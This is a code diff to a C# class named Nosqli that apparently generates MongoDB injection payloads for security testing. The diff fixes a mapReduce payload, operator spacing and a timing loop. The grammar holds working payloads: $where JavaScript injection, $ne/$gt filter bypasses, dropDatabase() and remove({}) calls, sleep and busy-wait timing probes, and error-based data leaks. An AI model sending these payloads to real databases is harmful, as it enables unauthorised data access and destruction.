@@ -152,7 +152,7 @@ internal static class Nosqli
         true, $where: '«jsbody»'
         , $where: '«jsbody»'
         $where: '«jsbody»'
-        db.«users¦getCollectionNames()¦«word».find()¦injection.insert({«word»:«num»})¦stores.mapReduce(function() { { emit(1,1¦version()¦dropDatabase()¦adminCommand({listDatabases:1})¦«word».remove({})¦loadServerScripts();«jsstatement»»«;¦»
+        db.«users¦getCollectionNames()¦«word».find()¦injection.insert({«word»:«num»})¦stores.mapReduce(function() { { emit(1,1); } },function(k,v){return 1},{out:"«letter»"})¦version()¦dropDatabase()¦adminCommand({listDatabases:1})¦«word».remove({})¦loadServerScripts();«jsstatement»»«;¦»
         «jsq»});«sp»db.«word».«insert({«letter»:«num»})¦drop()¦find({})¦remove()»;«sp»«jstail2»
         { $ne: ««num»¦null¦"«word»"» }
         {$gt: ''}
@@ -173,7 +173,7 @@ internal static class Nosqli
         §jsor
         5× ||
         2× &&
-        «|¦&¦or¦and¦;return»
+        «|¦&¦␠or␠¦␠and␠¦;return␠»
         §jstrue
         3× «$n:num»«==¦===»«$n»
         3× «jsq»«$n:letter»«jsq»«==¦===¦=»«jsq»«$n»
@@ -216,7 +216,7 @@ internal static class Nosqli
         §jsstatement
         4× sleep(«#1-30»«¦000»)
         2× return «true¦1¦this.«field2»==this.«field»¦«jstrue»¦JSON.stringify(this)¦(function(){«jsstatement»})()»
-        2× «var¦let» «$d:letter»=new Date();«sp»«var¦do{» «letter» = «¦new Date();»}while(«letter»-«$d»<«#1-30»000)
+        2× «var¦let» «$d:letter»=new Date();«sp»do{«$e:letter»=new Date();}while(«$e»-«$d»<«#1-30»000)
         while(«1¦true»)«;¦{}»
         throw new Error(«JSON.stringify(this)¦tojson(this)¦db.getName()¦'«rand»'»)
         «it=new Date();do{pt=new Date();}while(pt-it<«#1-20»000);»
